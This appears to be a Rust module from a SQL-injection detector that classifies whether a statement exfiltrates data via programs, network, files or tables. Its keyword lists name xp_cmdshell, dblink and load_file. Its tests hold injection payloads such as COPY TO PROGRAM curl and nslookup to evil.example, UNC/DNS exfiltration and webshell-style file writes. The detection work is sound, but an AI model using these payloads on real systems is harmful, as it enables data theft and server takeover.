//! By which way a statement sends what it reads elsewhere than into the page, told by its words: what sends is no matter of
//! one dialect's grammar, and much of it no parser of ours reads.
//!
//! Not here: what follows from it (`elsewhere`).

use crate::dialect::Dialect;
use crate::lexer::{Literal, hex, template};
use crate::mentioned::without_comments;

/// Where a statement sends what it reads. The first that is found of several, in this order.
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub(crate) enum Way {
    /// To a program that the database starts.
    Program,
    /// To another server, which the database itself reaches: by the name it looks up, or by a connection.
    Network,
    /// Into a file, by its path; empty where it is not written out.
    File(String),
    /// Into a table, or whatever else of the database may be read later.
    Table,
}

/// Functions that reach other servers by what they are called with.
const NETWORK: [&str; 17] = [
    "load_file",
    "load_extension",
    "dblink",
    "dblink_connect",
    "dblink_connect_u",
    "dblink_exec",
    "dblink_open",
    "dblink_send_query",
    "http_get",
    "http_post",
    "http_put",
    "get_host_address",
    "get_host_name",
    "httpuritype",
    "fn_xe_file_target_read_file",
    "fn_get_audit_file",
    "fn_trace_gettable",
];
/// Procedures and sources that do, with or without brackets.
const NETWORK_WORDS: [&str; 5] = ["xp_dirtree", "xp_fileexist", "xp_subdirs", "openrowset", "opendatasource"];
/// What starts a program.
const PROGRAMS: [&str; 3] = ["xp_cmdshell", "sys_exec", "sys_eval"];
/// Functions that write files.
const FILE_CALLS: [&str; 4] = ["lo_export", "pg_file_write", "writefile", "pg_write_file"];
/// What a statement makes that holds rows, or a query over them.
const MADE: [&str; 7] = ["table", "view", "function", "procedure", "trigger", "rule", "event"];
/// Words between CREATE and what it makes.
const CREATE_WORDS_MAX: usize = 6;
/// Statements that run a text as SQL.
const RUNS_TEXT: [&str; 8] = ["prepare", "execute", "exec", "do", "sp_executesql", "query_to_xml", "dblink", "dblink_exec"];

/// The way by which a statement sends what it reads elsewhere, if it does. `literals` stand in the places of the text.
pub(crate) fn way(sql: &str, literals: &[Literal]) -> Option<Way> {
    let sql = without_comments(sql);
    let tokens = tokens(&sql);
    let words = Words { sql: &sql, tokens: &tokens, literals };
    (0..tokens.len()).filter_map(|at| words.way_at(at)).min()
}

/// What a statement that runs text as SQL says in its literals, however they are spelled; nothing of any other statement.
pub(crate) fn read_as_text(sql: &str, literals: &[Literal], dialect: Dialect) -> Option<String> {
    let spelled = spelled_by(sql, literals)?;
    // A block that runs text again: `DO $$BEGIN EXECUTE CHR(83)||…; END$$`.
    let within = template(&spelled, dialect).ok().and_then(|inner| spelled_by(&inner.sql, &inner.literals));
    Some(within.map_or(spelled.clone(), |within| spelled + "\n" + &within))
}

fn spelled_by(sql: &str, literals: &[Literal]) -> Option<String> {
    let tokens = tokens(sql);
    let words = Words { sql, tokens: &tokens, literals };
    let runs = (0..tokens.len()).any(|at| words.is_one(at, &RUNS_TEXT));
    runs.then(|| words.spelled())
}

/// A word, a place (`?7`), or a sign.
#[derive(Clone, Copy, Debug)]
struct Token<'a> {
    text: &'a str,
    /// Where it ends.
    end: usize,
}

fn tokens(sql: &str) -> Vec<Token<'_>> {
    let is_word = |c: char| c.is_alphanumeric() || matches!(c, '_' | '$' | '@');
    let mut found = Vec::new();
    let mut rest = sql;
    while let Some(first) = rest.chars().next() {
        let from = sql.len() - rest.len();
        let length = match first {
            '?' => 1 + rest[1..].bytes().take_while(u8::is_ascii_digit).count(),
            c if is_word(c) => rest.find(|c| !is_word(c)).unwrap_or(rest.len()),
            c => c.len_utf8(),
        };
        let text = unversioned(&rest[..length]);
        if !first.is_whitespace() {
            found.push(Token { text, end: from + length });
        }
        rest = &rest[length..];
    }
    found
}

/// `50000INTO` behind `/*!` is the word behind the version.
fn unversioned(word: &str) -> &str {
    let digits = word.bytes().take_while(u8::is_ascii_digit).count();
    let is_version = matches!(digits, 5 | 6) && word[digits..].starts_with(|c: char| c.is_ascii_alphabetic());
    if is_version { &word[digits..] } else { word }
}

struct Words<'a> {
    sql: &'a str,
    tokens: &'a [Token<'a>],
    literals: &'a [Literal],
}

impl Words<'_> {
    fn is(&self, at: usize, word: &str) -> bool {
        self.tokens.get(at).is_some_and(|token| token.text.eq_ignore_ascii_case(word))
    }

    fn is_one(&self, at: usize, words: &[&str]) -> bool {
        words.iter().any(|word| self.is(at, word))
    }

    fn follows(&self, at: usize, words: &[&str]) -> bool {
        at.checked_sub(1).is_some_and(|before| self.is_one(before, words))
    }

    fn way_at(&self, at: usize) -> Option<Way> {
        let is = |word: &str| self.is(at, word);
        let calls = || self.is(at + 1, "(");
        match () {
            () if is("program") && self.follows(at, &["to", "from"]) => Some(Way::Program),
            () if self.is_one(at, &PROGRAMS) => Some(Way::Program),
            () if self.is_one(at, &NETWORK_WORDS) => Some(Way::Network),
            () if self.is_one(at, &NETWORK) && calls() && self.carries(at + 2) => Some(Way::Network),
            () if self.is_one(at, &FILE_CALLS) && calls() => Some(Way::File(String::new())),
            () if self.is_one(at, &["outfile", "dumpfile"]) && self.follows(at, &["into"]) => Some(Way::File(self.path(at))),
            () if is("to") && self.copies(at) => Some(Way::File(self.path(at))),
            () if is("into") && self.verb_is(at, &["vacuum"]) => Some(Way::File(self.path(at))),
            () if is("attach") && self.is(at + 1, "database") => Some(Way::File(self.path(at + 1))),
            () if is("attach") && self.verb_is(at, &["attach"]) => Some(Way::File(self.path(at))),
            () if is("into") && self.keeps(at) => Some(Way::Table),
            () if is("set") && self.verb_is(at, &["update"]) => Some(Way::Table),
            () if is("create") && (at + 1..at + CREATE_WORDS_MAX).any(|made| self.is_one(made, &MADE)) => Some(Way::Table),
            () => None,
        }
    }

    /// The first word of the statement that this word stands in.
    fn verb_is(&self, at: usize, verbs: &[&str]) -> bool {
        let begins = (0..at).rev().find(|&before| self.is(before, ";")).map_or(0, |before| before + 1);
        self.is_one(begins, verbs)
    }

    /// Whether TO ends a COPY into a file.
    fn copies(&self, at: usize) -> bool {
        self.verb_is(at, &["copy"]) && !self.is_one(at + 1, &["stdout", "program"])
    }

    /// Whether INTO names a table, and not a variable.
    fn keeps(&self, at: usize) -> bool {
        let is_variable = self.tokens.get(at + 1).is_none_or(|next| next.text.starts_with('@'));
        !is_variable && !self.is_one(at + 1, &["outfile", "dumpfile"])
    }

    /// Whether the arguments of a call name anything: `LOAD_FILE('/etc/passwd')` sends nothing of ours.
    fn carries(&self, from: usize) -> bool {
        let mut depth = 1_usize;
        for at in from..self.tokens.len() {
            let text = self.tokens[at].text;
            match text {
                "(" => depth += 1,
                ")" => depth -= 1,
                _ if text.starts_with(|c: char| c.is_alphabetic() || c == '_') && !self.is(at + 1, "(") => return true,
                _ => {}
            }
            if depth == 0 {
                return false;
            }
        }
        false
    }

    /// The text behind a word: in its place, or between quotes.
    fn path(&self, at: usize) -> String {
        let place = self.tokens.get(at + 1).and_then(|next| next.text.strip_prefix('?')?.parse::<usize>().ok());
        if let Some(literal) = place.and_then(|place| self.literals.get(place.wrapping_sub(1))) {
            return spelled(literal);
        }
        let digits = self.tokens.get(at + 1).and_then(|next| next.text.strip_prefix("0x"));
        if let Some(bytes) = digits.and_then(hex) {
            return String::from_utf8_lossy(&bytes).into_owned();
        }
        let rest = self.sql[self.tokens[at].end..].trim_start();
        let quote = rest.chars().next().filter(|quote| matches!(quote, '\'' | '"'));
        quote.and_then(|quote| rest[1..].split(quote).next()).unwrap_or_default().to_owned()
    }

    /// What the literals say: text, bytes in hexadecimal, and characters by their numbers.
    fn spelled(&self) -> String {
        let mut text = String::new();
        for at in 0..self.tokens.len() {
            let place = self.tokens[at].text.strip_prefix('?').and_then(|place| place.parse::<usize>().ok());
            match place.and_then(|place| self.literals.get(place.wrapping_sub(1))) {
                Some(Literal::Integer(code)) if self.is_spelling(at) => {
                    text.extend(u32::try_from(*code).ok().and_then(char::from_u32));
                }
                Some(literal @ (Literal::Text(_) | Literal::Bytes(_))) => text.push_str(&spelled(literal)),
                _ => {}
            }
        }
        text
    }

    /// Whether a number stands in `CHR(…)` or its like.
    fn is_spelling(&self, at: usize) -> bool {
        let open = (0..at).rev().find(|&before| self.is(before, "("));
        open.is_some_and(|open| self.follows(open, &["chr", "char", "nchar"]))
    }
}

fn spelled(literal: &Literal) -> String {
    match literal {
        Literal::Text(text) => text.clone(),
        Literal::Bytes(bytes) => String::from_utf8_lossy(bytes).into_owned(),
        Literal::Integer(_) | Literal::Decimal(_) => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::{Way, read_as_text, way};
    use crate::dialect::Dialect;
    use crate::lexer::template;

    /// The way of a statement, as its tokens and as its bare text tell it.
    fn check(dialect: Dialect, sql: &str, expected: Option<Way>) {
        let read = template(sql, dialect).expect("the text can be read");
        assert_eq!(way(&read.sql, &read.literals), expected, "{}", read.sql);
        if expected.is_some() {
            assert_eq!(way(sql, &[]), expected, "{sql}");
        }
    }

    #[test]
    fn what_a_statement_reads_may_leave_by_another_way_than_the_page() {
        use Dialect::{MySql, PostgreSql, Sqlite};
        let file = |path: &str| Some(Way::File(path.into()));
        check(MySql, "SELECT a FROM b UNION SELECT c FROM d INTO OUTFILE '/var/www/x.txt'", file("/var/www/x.txt"));
        check(MySql, "SELECT a FROM b WHERE c=1 into/**/dumpfile '/x'", file("/x"));
        check(MySql, "SELECT LOAD_FILE(CONCAT(0x5c5c,(SELECT a FROM b),'.evil.example\\\\a'))", Some(Way::Network));
        check(MySql, "SELECT 1; INSERT INTO comments(text) SELECT a FROM b", Some(Way::Table));
        check(MySql, "SELECT 1; UPDATE items SET title=(SELECT a FROM b)", Some(Way::Table));
        check(MySql, "INSERT INTO log VALUES (1,(SELECT a FROM b))", Some(Way::Table));
        check(PostgreSql, "SELECT 1; COPY (SELECT a FROM b) TO '/var/www/html/x.csv' CSV", file("/var/www/html/x.csv"));
        check(PostgreSql, "SELECT 1; COPY b TO PROGRAM 'curl -d @- evil.example'", Some(Way::Program));
        check(PostgreSql, "SELECT 1; COPY t FROM PROGRAM 'nslookup evil.example'", Some(Way::Program));
        check(PostgreSql, "SELECT 1; CREATE TEMP TABLE x AS SELECT a FROM b", Some(Way::Table));
        check(PostgreSql, "SELECT 1; SELECT a INTO x FROM b", Some(Way::Table));
        check(PostgreSql, "SELECT dblink_connect('host='||(SELECT a FROM b)||'.evil.example user=a')", Some(Way::Network));
        check(PostgreSql, "SELECT lo_export(5, '/x')", file(""));
        check(
            Sqlite,
            "SELECT 1; ATTACH DATABASE '/var/www/x.php' AS x; CREATE TABLE x.y AS SELECT a FROM b",
            file("/var/www/x.php"),
        );
        check(Sqlite, "SELECT 1; VACUUM INTO '/var/www/x.db'", file("/var/www/x.db"));
        check(MySql, "SELECT 1; EXEC master..xp_dirtree @q", Some(Way::Network));
    }

    #[test]
    fn most_statements_answer_by_the_page() {
        for sql in [
            "SELECT a FROM b WHERE c=1 UNION SELECT d FROM e",
            "SELECT LOAD_FILE('/etc/passwd')",
            "SELECT LOAD_FILE(CHAR(47,101))",
            "SELECT a INTO @x FROM b",
            "SELECT 1; COPY b TO STDOUT",
            "SELECT a FROM t WHERE b = 'INTO OUTFILE ''x'''",
        ] {
            check(Dialect::MySql, sql, None);
        }
    }

    #[test]
    fn a_text_that_is_run_is_read_however_it_is_spelled() {
        let check = |dialect: Dialect, sql: &str, expected: Option<&str>| {
            let read = template(sql, dialect).expect("the text can be read");
            assert_eq!(read_as_text(&read.sql, &read.literals, dialect).as_deref(), expected);
        };
        check(Dialect::MySql, "SELECT 1; SET @q=0x53454c454354; PREPARE p FROM @q; EXECUTE p", Some("SELECT"));
        check(Dialect::PostgreSql, "SELECT query_to_xml(CHR(83)||CHR(69)||'L',true,false,'')", Some("SEL"));
        check(Dialect::PostgreSql, "DO $$BEGIN x; END$$", Some("BEGIN x; END"));
        check(Dialect::MySql, "SELECT a FROM b WHERE c=0x53454c454354", None);
    }
}
